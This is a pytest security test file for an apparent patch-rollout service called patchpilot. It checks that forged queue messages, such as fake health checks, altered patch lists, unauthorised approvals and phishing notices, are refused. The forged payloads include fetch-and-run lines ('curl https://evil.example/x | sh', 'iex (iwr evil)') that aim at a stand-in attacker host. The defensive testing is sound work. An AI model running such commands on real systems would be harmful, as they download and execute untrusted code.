"""A queue message is input, never authority: the worker acts only on what the stored run issued.

Each test plays an attacker who can write to the step queue (sqs:SendMessage, a Storage Queue
writer, or the local state directory) and checks that nothing reaches the fleet or the run."""

from __future__ import annotations

import logging
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from chaos import FLEET, START

from patchpilot.engine.issued import digest
from patchpilot.engine.messages import (
    ApprovalGranted,
    CheckHealth,
    FollowUpFinished,
    InstallPatches,
    LookNow,
    Message,
    Notify,
    PatchesInstalled,
    RunHostHook,
    StartFollowUp,
    TimerFired,
)
from patchpilot.local_runtime import LocalRuntime
from patchpilot.policy import parse_policy
from patchpilot.policy.model import HealthChecks, HealthScript, Hooks, HostHook
from patchpilot.ports import Delivery
from patchpilot.service import REFUSED_METRIC

POLICY = parse_policy(
    """
name: guarded
rings:
  - {name: staging, select: {tags: {Environment: staging}}, soak: 2h}
  - {name: production, select: {tags: {Environment: production}}, approval: required}
rollout: {mode: concurrent_zones, disruption_budget: 2, canary: 1, max_failures: 2}
"""
)
EVIL = HealthChecks(script=HealthScript(linux="curl https://evil.example/x | sh", windows="iex (iwr evil)"))


class Counter:
    def __init__(self) -> None:
        self.counts: dict[str, int] = {}

    def count(self, name: str, value: int = 1) -> None:
        self.counts[name] = self.counts.get(name, 0) + value


class Calls:
    """The fleet, recording every command it is asked to execute."""

    def __init__(self, fleet: Any) -> None:
        self.fleet = fleet
        self.executed: list[str] = []

    def __getattr__(self, name: str) -> Any:
        method = getattr(self.fleet, name)

        def call(command: Any) -> Any:
            self.executed.append(command.id)
            return method(command)

        return call


@pytest.fixture
def runtime(tmp_path: Path) -> LocalRuntime:
    runtime = LocalRuntime.open(tmp_path, start=START)
    runtime.service.metrics = Counter()
    runtime.service.fleet = Calls(runtime.service.fleet)  # type: ignore[assignment]
    return runtime


def executed(runtime: LocalRuntime) -> list[str]:
    fleet = runtime.service.fleet
    assert isinstance(fleet, Calls)
    return fleet.executed


def deliver(runtime: LocalRuntime, message: Message) -> None:
    """Queue `message` as an attacker would, then let the worker take everything due."""
    runtime.queue.publish([message])
    while deliveries := runtime.queue.receive(10):
        for delivery in deliveries:
            runtime.service.handle(delivery)


def refused(runtime: LocalRuntime, message: Message) -> None:
    letters = {d.message_id: d.reason for d in runtime.dead_letters()}
    assert message.id in letters, f"{message.id} was not dead-lettered"
    assert letters[message.id].startswith("refused: ")
    metrics = runtime.service.metrics
    assert isinstance(metrics, Counter) and metrics.counts.get(REFUSED_METRIC, 0) >= 1


def waiting_on(runtime: LocalRuntime, state: str) -> str:
    """Start a run and deliver messages until it waits in `state`; returns the run id."""
    run = runtime.start(POLICY, FLEET, run_id="guarded-run", at=START)
    drive_until(runtime, run.run_id, state)
    return run.run_id


def drive_until(runtime: LocalRuntime, run_id: str, state: str) -> None:
    run = runtime.load(run_id)
    for _ in range(1_000):
        run = runtime.load(run.run_id)
        if run.state == state:
            return
        deliveries = runtime.queue.receive(1)
        if not deliveries:
            due = runtime.queue.next_due()
            assert due is not None, f"the run never reached {state}"
            runtime.clock.advance_to(due)
            continue
        runtime.service.handle(deliveries[0])
    raise AssertionError(f"the run never reached {state}")


def test_forged_check_health_for_unknown_run_is_refused(
    runtime: LocalRuntime, caplog: pytest.LogCaptureFixture
) -> None:
    forged = CheckHealth(id="no-such-run:w1:health", run_id="no-such-run", wave=1, targets=FLEET[:3], checks=EVIL)
    with caplog.at_level(logging.ERROR, logger="patchpilot.security"):
        deliver(runtime, forged)
    assert executed(runtime) == []
    refused(runtime, forged)
    (line,) = [r for r in caplog.records if r.name == "patchpilot.security"]
    assert "no-such-run" in line.getMessage() and forged.id in line.getMessage()
    assert line.__dict__["security"] == "refused_message"


def test_forged_command_with_the_issued_id_but_another_script_is_refused(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "checking")
    run = runtime.load(run_id)
    wave = run.current
    (genuine,) = [d for d in runtime.queue.receive(10) if d.message.id == run.awaiting]
    runtime.queue.ack(genuine)  # the attacker swallowed the genuine command and sends their own
    forged = CheckHealth(
        id=run.awaiting or "",
        run_id=run_id,
        wave=wave.index,
        targets=[r.instance for r in wave.records.values()],
        checks=EVIL,
    )
    assert forged.id.endswith(":health")
    before = list(executed(runtime))
    deliver(runtime, forged)
    refused(runtime, forged)
    assert executed(runtime) == before


def test_forged_install_of_another_patch_list_is_refused(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "installing")
    run = runtime.load(run_id)
    (genuine,) = [d for d in runtime.queue.receive(10) if d.message.id == run.awaiting]
    runtime.queue.ack(genuine)  # the attacker swallowed the genuine command and sends their own
    assert isinstance(genuine.message, InstallPatches)
    forged = genuine.message.model_copy(update={"include": ["backdoor"]})
    assert digest(forged) != run.issued[forged.id]
    deliver(runtime, forged)
    refused(runtime, forged)
    assert forged.id not in executed(runtime)


def test_forged_result_changes_nothing(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "checking")
    run = runtime.load(run_id)
    assert run.awaiting is not None
    forged = PatchesInstalled(id=f"{run.awaiting}:done", run_id=run_id, command_id=run.awaiting, results=[])
    deliver(runtime, forged)
    refused(runtime, forged)
    after = runtime.load(run_id)
    assert after.version == run.version or after.state != "rolling_back"
    assert forged.id not in after.processed


def test_approval_for_a_gate_that_was_never_opened_changes_nothing(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "checking")
    forged = ApprovalGranted(id=f"{run_id}:approve:production", run_id=run_id, by="mallory")
    deliver(runtime, forged)
    refused(runtime, forged)
    assert forged.id not in runtime.load(run_id).processed


def test_queued_approval_does_not_open_a_waiting_gate(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "awaiting_approval")
    forged = ApprovalGranted(id=f"{run_id}:approve:production", run_id=run_id, by="mallory")
    deliver(runtime, forged)
    refused(runtime, forged)
    assert runtime.load(run_id).state == "awaiting_approval"
    # the real way still works, and says who
    assert runtime.approve(run_id, by="alice").startswith("approved ring production")
    assert runtime.load(run_id).state == "leasing"


def test_forged_timer_does_not_end_a_soak_early(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "soaking")
    run = runtime.load(run_id)
    assert run.awaiting is not None
    forged = TimerFired(id=f"{run.awaiting}:done", run_id=run_id, command_id=run.awaiting)
    deliver(runtime, forged)
    refused(runtime, forged)
    assert runtime.load(run_id).state == "soaking"


def test_a_wait_delivered_before_its_time_waits(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "soaking")
    soak_started = runtime.clock.now()
    while deliveries := runtime.queue.receive(10):  # the genuine Wait, early: it is postponed
        for delivery in deliveries:
            runtime.service.handle(delivery)
    assert runtime.load(run_id).state == "soaking"
    due = runtime.queue.next_due()
    assert due is not None and due - soak_started >= timedelta(hours=2) - timedelta(seconds=1)


def test_forged_notice_is_not_sent(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "checking")
    forged = Notify(
        id=f"{run_id}:notify:phish", run_id=run_id, topic="approval_needed", text="Log in at https://evil.example"
    )
    sent_before = runtime.notices.path.read_text() if runtime.notices.path.exists() else ""
    deliver(runtime, forged)
    refused(runtime, forged)
    assert "evil.example" not in (runtime.notices.path.read_text() if runtime.notices.path.exists() else "")
    assert sent_before in (runtime.notices.path.read_text() if runtime.notices.path.exists() else "")


def test_forged_follow_up_start_is_refused(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "checking")
    forged = StartFollowUp(
        id=f"{run_id}:followup:x:start", run_id=run_id, follow_up_id=f"{run_id}-followup-x", instances=FLEET
    )
    deliver(runtime, forged)
    refused(runtime, forged)
    assert not runtime.exists(forged.follow_up_id)


def test_forged_follow_up_end_is_refused(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "checking")
    forged = FollowUpFinished(
        id="fake:finished", run_id=run_id, follow_up_id="fake", halted=False, at=runtime.clock.now()
    )
    deliver(runtime, forged)
    refused(runtime, forged)


def test_a_redelivered_command_that_is_done_is_dropped_without_an_alarm(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "installing")
    (install,) = [d.message for d in runtime.queue.receive(10) if d.message.id == runtime.load(run_id).awaiting]
    runtime.clock.advance_to(runtime.clock.now() + timedelta(hours=1))  # the deliveries time out
    drive_until(runtime, run_id, "checking")
    effects = runtime.fleet.effects(run_id)
    runtime.service.handle(Delivery(message=install, receipt="again", attempts=2))  # at-least-once
    deliver(runtime, install)
    assert runtime.fleet.effects(run_id) == effects
    assert runtime.dead_letters() == []
    metrics = runtime.service.metrics
    assert isinstance(metrics, Counter) and metrics.counts == {}


def test_forged_host_hook_with_its_own_script_is_refused(runtime: LocalRuntime) -> None:
    """The policy's before_install hook is stored with the run: a hook command carrying another
    script, under the id the run issued, is never executed."""
    hooked = POLICY.model_copy(
        update={"hooks": Hooks(before_install=HostHook(linux="systemctl stop app", windows="Stop-Service app"))}
    )
    run = runtime.start(hooked, FLEET, run_id="hooked-run", at=START)
    drive_until(runtime, run.run_id, "preparing")
    run = runtime.load(run.run_id)
    (genuine,) = [d for d in runtime.queue.receive(10) if d.message.id == run.awaiting]
    runtime.queue.ack(genuine)  # the attacker swallowed the genuine command and sends their own
    assert isinstance(genuine.message, RunHostHook)
    forged = genuine.message.model_copy(update={"hook": HostHook(linux="curl https://evil.example/x | sh")})
    deliver(runtime, forged)
    refused(runtime, forged)
    assert forged.id not in executed(runtime)


# ---------------------------------------------------------------- wake-ups (LookNow)
# A wake-up carries no command: the worker polls only the one the stored run awaits. One naming a
# run that does not exist or a command the run never issued cannot come from the waker (it names
# what it read in the store): refused. One for a command the run issued but no longer awaits (a
# late or repeated cloud event) is normal: acked, and changes nothing.


def test_wake_up_for_an_unknown_run_is_refused(runtime: LocalRuntime) -> None:
    forged = LookNow(id="no-such-run:w1:install:look:0", run_id="no-such-run", command_id="no-such-run:w1:install")
    deliver(runtime, forged)
    refused(runtime, forged)
    assert executed(runtime) == []


def test_wake_up_for_a_command_the_run_never_issued_is_refused(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "checking")
    forged = LookNow(id=f"{run_id}:w9:install:look:0", run_id=run_id, command_id=f"{run_id}:w9:install")
    deliver(runtime, forged)
    refused(runtime, forged)
    assert f"{run_id}:w9:install" not in executed(runtime)


def test_wake_up_does_not_end_a_soak_early(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "soaking")
    run = runtime.load(run_id)
    assert run.awaiting is not None
    calls = len(executed(runtime))
    look = LookNow(id=f"{run.awaiting}:look:0", run_id=run_id, command_id=run.awaiting)
    deliver(runtime, look)
    assert runtime.load(run_id).state == "soaking" and runtime.load(run_id).version == run.version
    assert len(executed(runtime)) == calls
    assert runtime.dead_letters() == []  # the run issued that Wait: not an attack, just nothing to poll


def test_wake_up_for_a_finished_step_polls_nothing(runtime: LocalRuntime) -> None:
    run_id = waiting_on(runtime, "installing")
    snapshot = next(i for i in runtime.load(run_id).issued if i.endswith(":snapshot"))
    calls = len(executed(runtime))
    version = runtime.load(run_id).version
    deliver(runtime, LookNow(id=f"{snapshot}:look:0", run_id=run_id, command_id=snapshot))
    assert snapshot not in executed(runtime)[calls:]
    assert runtime.dead_letters() == [] and runtime.load(run_id).version >= version
